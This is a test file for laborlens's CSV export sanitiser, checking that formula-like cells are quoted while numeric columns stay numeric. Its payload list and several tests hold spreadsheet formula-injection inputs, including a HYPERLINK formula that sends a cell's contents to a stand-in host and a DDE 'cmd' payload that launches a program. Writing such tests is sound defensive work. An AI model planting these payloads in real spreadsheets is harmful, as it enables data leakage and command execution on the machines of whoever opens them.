"""Every CSV export goes through laborlens.csvout: formula-like cells are written as text, numbers stay."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from laborlens import csvout
from laborlens.csvout import TRIGGERS, safe_cell
from laborlens.match.engine import match_file
from laborlens.match.service import build_matcher
from laborlens.model import Link, Party, Shipment
from laborlens.refdata.bundled import bundled_entries
from laborlens.screen import screen_tables, write_outputs

PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u22121+1", "  =1+1", "\u3000=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_prefixed(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Example Co., Ltd.", "", "   ", "新疆", "a=b", "3.5", "'=already text"])
def test_ordinary_text_is_untouched(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers():
    assert safe_cell(-3.5) == -3.5 and safe_cell(-2) == -2 and safe_cell(True) is True
    assert safe_cell("-3.5", numeric=True) == "-3.5"
    assert safe_cell("-1e-3", numeric=True) == "-1e-3"
    # a declared-numeric column still refuses a formula, and a text column refuses a "negative number"
    assert safe_cell("-3+cmd|'/C calc'!A0", numeric=True).startswith("'")
    assert safe_cell("-inf", numeric=True) == "'-inf"
    assert safe_cell("-3.5") == "'-3.5"


@given(st.text())
def test_any_cell_is_itself_or_quoted_and_never_starts_a_formula(text):
    out = safe_cell(text)
    assert out in (text, "'" + text)
    assert out.lstrip(" \u00a0\u3000")[:1] not in TRIGGERS
    buf = io.StringIO()
    csvout.writer(buf).writerow([text])
    back = next(csv.reader(io.StringIO(buf.getvalue())))
    assert back == [out]  # csv round-trips the cell, quoted or not


def test_dict_writer_keeps_numeric_columns_and_neutralises_headers():
    buf = io.StringIO()
    w = csvout.DictWriter(buf, fieldnames=["=evil", "score"], numeric=("score",))
    w.writeheader()
    w.writerow({"=evil": "@x", "score": "-0.25"})
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=evil", "score"], ["'@x", "-0.25"]]


def test_verdicts_csv_is_neutralised(tmp_path):
    matcher = build_matcher(list(bundled_entries("uflpa")))
    evil = "=HYPERLINK(\"http://x.example\")"
    parties = [Party("IMP", "Importer", "US", ""), Party("EXP", "Exporter", "CN", "")]
    r = screen_tables(parties, [], [Shipment(evil, "IMP", "EXP", "@cotton", "", "")], matcher)
    write_outputs(r, tmp_path / "out", html=False, pdf=False)
    row = next(csv.DictReader((tmp_path / "out" / "verdicts.csv").open(encoding="utf-8")))
    assert row["shipment_id"] == "'" + evil and row["material"] == "'@cotton"


def test_verdicts_csv_tier_stays_numeric(tmp_path):
    matcher = build_matcher(list(bundled_entries("uflpa")))
    parties = [Party("IMP", "Importer", "US", ""), Party("L", "XINJIANG ZHONGTAI CHEM CO LTD", "CN", ""),
               Party("EXP", "Exporter", "CN", "")]
    ships = [Shipment("S", "IMP", "EXP", "pvc", "", "")]
    r = screen_tables(parties, [Link("L", "EXP", "pvc")], ships, matcher)
    write_outputs(r, tmp_path / "out", html=False, pdf=False)
    row = next(csv.DictReader((tmp_path / "out" / "verdicts.csv").open(encoding="utf-8")))
    assert row["verdict"] == "presumption" and int(row["tier"]) >= 1


def test_match_output_is_neutralised(tmp_path):
    matcher = build_matcher(list(bundled_entries("uflpa")))
    q = tmp_path / "q.csv"
    q.write_text("id,name,country\n=1+1,XINJIANG ZHONGTAI CHEM CO LTD,CN\n@x,\"-Example, Inc.\",US\n",
                 encoding="utf-8")
    match_file(matcher, q, tmp_path / "out.csv", workers=1)
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert [r["id"] for r in rows] == ["'=1+1", "'@x"]
    assert all(0.0 <= float(r["score"]) <= 1.0 for r in rows)
    assert not any(v[:1] in TRIGGERS for r in rows for v in r.values())


def test_compare_pairs_output_is_neutralised(cli, tmp_path):
    pairs = tmp_path / "pairs.csv"
    pairs.write_text("name1,name2,note\n=Camel Group,Camel Group Co Ltd,+SUM(1)\n", encoding="utf-8")
    r = cli("compare", "--pairs", pairs, "-o", tmp_path / "out.csv")
    assert r.exit_code == 0, r.output
    row = next(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert row["name1"] == "'=Camel Group" and row["note"] == "'+SUM(1)"
    assert 0.0 <= float(row["score"]) <= 1.0 and row["is_match"] in ("true", "false")


def test_defender_export_is_neutralised(store, settings, monkeypatch):
    from laborlens.accounts import add_user
    from laborlens.cases import defenders as dfn
    from laborlens.cases.crypto import KEY_ENV, KeyRing

    monkeypatch.delenv(KEY_ENV, raising=False)
    ring = KeyRing.load(settings.home)
    with store.session() as s:
        ana = add_user(s, "ana", "correct-horse-battery", "analyst")
        s.expunge(ana)
    with store.session() as s:
        dfn.open_case(s, ring, ana, dfn.Identity("=HYPERLINK(\"http://x.example\")", "@Union", "phone"),
                      country="-Guatemala", threats=["violence"], risk="high", consent_to_publicity=True)
    with store.session() as s:
        out = dfn.export_redacted(s, ring, ana, "csv")
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["name"].startswith("'=") and row["organisation"] == "'@Union"
    assert row["country"] == "'-Guatemala"
